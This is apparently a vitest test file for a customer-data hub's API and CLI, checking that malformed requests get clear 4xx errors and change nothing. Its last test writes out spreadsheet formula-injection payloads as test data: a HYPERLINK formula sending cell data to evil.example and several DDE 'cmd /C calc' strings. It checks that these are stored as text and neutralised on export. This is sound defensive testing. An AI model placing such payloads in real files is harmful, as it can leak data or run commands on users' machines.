import { execFile } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { request } from "node:http";
import { parse as parseCsv } from "csv-parse/sync";
import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { serveApi } from "../../src/cli/serve-api.ts";
import { signTimestamped } from "../../src/connectors/pos/signature.ts";
import { createCustomer, listCustomers } from "../../src/services/customers.ts";
import { createIntegration } from "../../src/services/integrations.ts";
import { createUser } from "../../src/services/users.ts";
import type { Db } from "../../src/store/database.ts";
import { afterThisTest } from "../setup/cleanup.ts";
import { engines } from "../setup/database.ts";
import { addOfflineIntegration, createTestHub, drainInbox } from "../setup/hub.ts";

/**
 * The bad-input corpus (test/fixtures/bad-input/, README.md there): every case gets its clear 4xx
 * with a message that names what and where, and changes nothing in any table.
 */
const root = fileURLToPath(new URL("../../", import.meta.url));
const corpusDir = `${root}test/fixtures/bad-input/`;
const maxBodyBytes = 65_536;
/** I3: the test hub's --max-file-bytes; past 64 KB, so a file can change encoding after the sniff */
const maxFileBytes = 262_144;

interface HttpCase {
  rule: string;
  name: string;
  method: string;
  path: string;
  body?: unknown;
  raw?: string;
  rawHex?: string;
  contentType?: string;
  oversize?: boolean;
  chunked?: boolean;
  sign?: boolean;
  /** a customer file (I3), in parts: see README.md */
  file?: string[];
  /** a Content-Length header larger than the bytes sent, answered before the body is read */
  declaredLength?: number;
  status: number;
  message: string;
}

interface CliCase {
  rule: string;
  name: string;
  args: string[];
  output: string;
}

const files = readdirSync(corpusDir).filter((f) => f.endsWith(".json"));
const load = <T>(file: string) =>
  JSON.parse(readFileSync(corpusDir + file, "utf8")) as { route: string; cases: T[] };

/** `@repeat:x:5001`, `@array:note:51`, `@record:p:101` (README.md) */
function expand(value: unknown): unknown {
  if (typeof value === "string") {
    const [, kind, unit = "", count] = /^@(repeat|array|record):([^:]*):(\d+)$/.exec(value) ?? [];
    const n = Number(count);
    if (kind === "repeat") return unit.repeat(n);
    if (kind === "array") return Array.from({ length: n }, (_, i) => `${unit}${i + 1}`);
    if (kind === "record")
      return Object.fromEntries(Array.from({ length: n }, (_, i) => [`${unit}${i + 1}`, "x"]));
    return value;
  }
  if (Array.isArray(value)) return value.map(expand);
  if (value && typeof value === "object")
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, expand(v)]));
  return value;
}

/** Every row of every table of the test's schema, so "changes nothing" means nothing. */
async function dump(db: Db): Promise<Record<string, string[]>> {
  const tables = await db.query<{ tablename: string }>(
    "select tablename from pg_tables where schemaname = current_schema() order by tablename",
  );
  const result: Record<string, string[]> = {};
  for (const { tablename } of tables) {
    const rows = await db.query<{ row: unknown }>(
      `select to_jsonb(t) as row from "${tablename}" t`,
    );
    result[tablename] = rows.map((r) => JSON.stringify(r.row)).sort();
  }
  return result;
}

/**
 * I3: a customer file's bytes from its parts (README.md): text as UTF-8, `@rows:N` (N customer
 * rows), `@rows-utf8:N` (the same with accents), `@hex:` bytes, `@win1252:`, `@utf16le:` (with a
 * byte order mark) and `@utf16le-nobom:` text in that encoding.
 */
function fileBytes(parts: string[]): Buffer {
  const row = (i: number, accents: boolean) =>
    accents
      ? `${i},Zoë${i},Lefèvre,z${i}@example.com\n`
      : `${i},Name${i},Family${i},n${i}@example.com\n`;
  const rows = (count: number, accents: boolean) =>
    Buffer.from(Array.from({ length: count }, (_, i) => row(i + 1, accents)).join(""));
  return Buffer.concat(
    parts.map((part) => {
      const [, kind, rest = ""] = /^@([a-z0-9-]+):([\s\S]*)$/.exec(part) ?? [];
      switch (kind) {
        case "rows":
          return rows(Number(rest), false);
        case "rows-utf8":
          return rows(Number(rest), true);
        case "hex":
          return Buffer.from(rest, "hex");
        case "win1252":
          return iconv.encode(rest, "win1252");
        case "utf16le":
          return Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(rest, "utf16le")]);
        case "utf16le-nobom":
          return iconv.encode(rest, "utf16le");
        default:
          return Buffer.from(part);
      }
    }),
  );
}

/**
 * A customer file sent over node:http, 8 KB at a time, until the hub answers: with `declared`, a
 * Content-Length larger than the bytes sent (a "1 GB" upload), which must be answered before the
 * body is read, or the request times out here; without, chunked (no Content-Length). The hub may
 * close the connection once it has answered (fetch reports that as a failure, losing the answer).
 */
function sendStreamed(
  url: string,
  headers: Record<string, string>,
  bytes: Buffer,
  declared?: number,
): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = request(url, {
      method: "POST",
      headers:
        declared === undefined ? headers : { ...headers, "content-length": String(declared) },
      timeout: 10_000,
      agent: false, // a connection of its own: the hub may close it once it has answered
    });
    req.on("timeout", () => req.destroy(new Error("no answer while the body was being sent")));
    req.on("error", (error) => {
      if (!answered) reject(error);
    });
    req.on("response", (response) => {
      answered = true;
      let text = "";
      response.on("data", (chunk: Buffer) => (text += chunk.toString()));
      response.on("end", () => {
        req.destroy();
        resolve({ status: response.statusCode ?? 0, text });
      });
    });
    void (async () => {
      for (let at = 0; at < bytes.length && !answered && !req.destroyed; at += 8192)
        if (!req.write(bytes.subarray(at, at + 8192)))
          await new Promise<void>((drained) => {
            const done = () => {
              req.off("drain", done);
              req.off("close", done);
              drained();
            };
            req.on("drain", done);
            req.on("close", done);
          });
      if (declared === undefined && !answered && !req.destroyed) req.end();
    })();
  });
}

async function startHub(open: () => Promise<Db>) {
  const db = await open();
  const hub = await createTestHub(db);
  const api = await serveApi(hub.ctx, "127.0.0.1", 0, { maxBodyBytes, maxFileBytes });
  afterThisTest(() => api.close());
  const customer = await createCustomer(hub.ctx, hub.admin, {
    firstName: "Ada",
    lastName: "Lovelace",
    contacts: [{ kind: "email", value: "ada@example.com" }],
    preferences: { "Ring size": "6" },
  });
  const integration = await addOfflineIntegration(hub);
  const fileIntegration = await createIntegration(hub.ctx, hub.admin, {
    kind: "file",
    name: "Accounting export",
    options: { webhooks: false },
  });
  const { user } = await createUser(hub.ctx, hub.admin, {
    name: "Sam",
    email: "sam@example.com",
    role: "associate",
  });
  const ids: Record<string, string> = {
    customer: String(customer.id),
    integration: String(integration),
    fileIntegration: String(fileIntegration.id),
    user: String(user.id),
  };
  const fill = (text: string) => text.replace(/\{(\w+)\}/g, (m, name: string) => ids[name] ?? m);
  return { db, hub, api, fill };
}

type Hub = Awaited<ReturnType<typeof startHub>>;

async function send(hub: Hub, c: HttpCase): Promise<{ status: number; message: string }> {
  let bytes: Buffer | undefined;
  if (c.oversize) {
    const filler = "x".repeat(maxBodyBytes + 1 - '{"firstName":""}'.length);
    bytes = Buffer.from(`{"firstName":"${filler}"}`);
  } else if (c.file !== undefined) bytes = fileBytes(c.file);
  else if (c.rawHex !== undefined) bytes = Buffer.from(c.rawHex, "hex");
  else if (c.raw !== undefined) bytes = Buffer.from(c.raw);
  else if (c.body !== undefined) bytes = Buffer.from(JSON.stringify(expand(c.body)));
  const headers: Record<string, string> = {
    authorization: `Bearer ${hub.hub.token}`,
    ...(bytes ? { "content-type": c.contentType ?? "application/json" } : {}),
  };
  if (c.sign && bytes) {
    const timestamp = String(Math.floor(hub.hub.clock.now().getTime() / 1000));
    headers["x-pos-timestamp"] = timestamp;
    // the offline integration's webhook secret (test/setup/hub.ts)
    headers["x-pos-signature"] = `v1=${signTimestamped("s", timestamp, bytes.toString("utf8"))}`;
  }
  if (c.file !== undefined && (c.chunked || c.declaredLength !== undefined)) {
    const answer = await sendStreamed(
      `${hub.api.url}${hub.fill(c.path)}`,
      headers,
      bytes ?? Buffer.alloc(0),
      c.declaredLength,
    );
    return { status: answer.status, message: errorMessage(answer.text) };
  }
  const body =
    bytes && c.chunked
      ? new ReadableStream<Uint8Array>({
          start(controller) {
            for (let at = 0; at < bytes.length; at += 8192)
              controller.enqueue(bytes.subarray(at, at + 8192));
            controller.close();
          },
        })
      : bytes;
  const response = await fetch(`${hub.api.url}${hub.fill(c.path)}`, {
    method: c.method,
    headers,
    ...(body ? { body, duplex: "half" } : {}),
  } as RequestInit);
  return { status: response.status, message: errorMessage(await response.text()) };
}

function errorMessage(text: string): string {
  try {
    return (JSON.parse(text) as { error?: { message?: string } }).error?.message ?? text;
  } catch {
    return text; // not JSON: the test fails on the message, showing the text
  }
}

function tandem(args: string[]): Promise<{ code: number; output: string }> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      ["--import", "tsx", "src/cli/main.ts", ...args],
      { cwd: root, env: { ...process.env, DATABASE_URL: "" } },
      (error, stdout, stderr) =>
        resolve({
          code: error ? ((error as { code?: number }).code ?? 1) : 0,
          output: `${stdout}\n${stderr}`,
        }),
    );
  });
}

describe.each(engines)("the bad-input corpus on $name", (engine) => {
  for (const file of files.filter((f) => f !== "cli.json")) {
    const { route, cases } = load<HttpCase>(file);
    const rules = [...new Set(cases.map((c) => `${c.rule}:`))].join(" ");
    it(`${rules} ${route}: ${cases.length} bad requests (${file}) each get a clear 4xx and change nothing`, async () => {
      const hub = await startHub(engine.open);
      const before = await dump(hub.db);
      const failures: string[] = [];
      for (const c of cases) {
        const { status, message } = await send(hub, c).catch((error: unknown) => ({
          status: 0,
          message: `the request failed: ${String(error)}`,
        }));
        if (status !== c.status || !new RegExp(c.message).test(message))
          failures.push(`${c.name}: expected ${c.status} /${c.message}/, got ${status} ${message}`);
        const after = await dump(hub.db);
        for (const table of Object.keys(before))
          if (JSON.stringify(after[table]) !== JSON.stringify(before[table]))
            failures.push(`${c.name}: changed table ${table}`);
      }
      expect(failures).toEqual([]);
    });
  }

  const cli = load<CliCase>("cli.json");
  it(`R7.9: R7.10: R7.16: ${cli.route}: ${cli.cases.length} bad commands each exit non-zero, say what is wrong, and change nothing`, async () => {
    const hub = await startHub(engine.open);
    const before = await dump(hub.db);
    const failures: string[] = [];
    for (const c of cli.cases) {
      const args = ["customers", ...c.args.map(hub.fill)];
      const { code, output } = await tandem([
        ...args,
        "--api-url",
        hub.api.url,
        "--token",
        hub.hub.token,
      ]);
      if (code === 0) failures.push(`${c.name}: exited 0`);
      if (!new RegExp(c.output).test(output))
        failures.push(`${c.name}: expected /${c.output}/ in: ${output.trim()}`);
      if (JSON.stringify(await dump(hub.db)) !== JSON.stringify(before))
        failures.push(`${c.name}: changed the data`);
    }
    expect(failures).toEqual([]);
  });
});

describe.each(engines)("hostile customer files on $name", (engine) => {
  it("I3: I4: a formula in a customer file is imported as text, never computed, and neutralised again on export (CSV and XLSX)", async () => {
    const hub = await startHub(engine.open);
    const formulas = {
      first: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      last: "+cmd|' /C calc'!A0",
      acquisition: "@SUM(1+1)*cmd|' /C calc'!A0",
      note: "-2+3+cmd|' /C calc'!A0",
    };
    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const file = [
      "customer_number,first_name,last_name,email,acquisition,custom:Note",
      ["F1", formulas.first, formulas.last, "f1@example.com", formulas.acquisition, formulas.note]
        .map(quote)
        .join(","),
      "",
    ].join("\n");
    const upload = await send(hub, {
      rule: "I3",
      name: "formulas",
      method: "POST",
      path: "/v1/integrations/{fileIntegration}/import",
      file: [file],
      contentType: "text/csv",
      status: 200,
      message: "",
    });
    expect(upload.status).toBe(200);
    await drainInbox(hub.hub);
    const [customer] = (
      await listCustomers(hub.hub.ctx, hub.hub.admin, { limit: 10 })
    ).customers.filter((c) => c.lastName === formulas.last);
    // kept exactly as written: text, nothing computed or cut
    expect(customer).toMatchObject({
      firstName: formulas.first,
      lastName: formulas.last,
      acquisition: formulas.acquisition,
      preferences: { Note: formulas.note },
    });
    const get = (format: string) =>
      fetch(`${hub.api.url}/v1/customers/export?format=${format}`, {
        headers: { authorization: `Bearer ${hub.hub.token}` },
      });
    const csv = parseCsv(await (await get("csv")).text(), { bom: true }) as string[][];
    const cellsOf = csv.find((cells) => cells.includes("f1@example.com"))!;
    for (const value of Object.values(formulas)) expect(cellsOf).toContain(`'${value}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await get("xlsx")).arrayBuffer());
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const hostile = cells.filter((c) => Object.values(formulas).some((v) => c.text === `'${v}`));
    expect(hostile).toHaveLength(4);
    // string cells, never formulas, and no cell that starts as a formula would
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.text).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
